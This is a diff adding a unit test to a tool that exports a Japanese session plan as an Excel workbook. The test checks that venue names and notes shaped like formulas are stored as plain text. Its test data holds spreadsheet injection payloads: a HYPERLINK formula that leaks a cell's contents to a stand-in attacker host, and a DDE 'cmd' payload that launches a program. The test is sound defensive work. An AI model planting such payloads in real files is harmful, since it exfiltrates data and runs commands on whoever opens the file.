@@ -234,6 +234,27 @@ def test_xlsx_has_the_four_sheets_and_one_row_per_session(plan):
     assert "2027-05 休日: 2 回のところ 1 回しか置けません。" in values
 
 
+def test_xlsx_writes_a_formula_like_venue_name_as_text(plan):
+    """A venue named like a formula (the importer takes the protective ' off) must not run when plan.xlsx opens."""
+    from tests.core.test_spreadsheet import formulas_in
+
+    attack = '=HYPERLINK("http://evil.example/?leak="&B2,"会館")'
+    plan.sessions[0] = replace(plan.sessions[0], venue_name=attack, reason="=1+1", venue_address="@SUM(A1)")
+    plan.notes.append("-2+3+cmd|' /C calc'!A0")
+
+    data = write_plan_xlsx(plan, background=BACKGROUND)
+
+    assert formulas_in(data) == []
+    workbook = load_workbook(io.BytesIO(data))
+    sheet = workbook["実施計画"]
+    column = {cell.value: cell.column for cell in sheet[1]}
+    names = [sheet.cell(row=r, column=column["会場"]) for r in range(2, sheet.max_row + 1)]
+    shown = next(cell for cell in names if cell.value == attack)  # the name exactly as written, no ' in front
+    assert shown.data_type == "s" and shown.quotePrefix
+    notes = [row[1] for row in workbook["パラメータ"].iter_rows(values_only=True)]
+    assert "-2+3+cmd|' /C calc'!A0" in notes
+
+
 # --- the PDF -------------------------------------------------------------------------------------------------
 
 
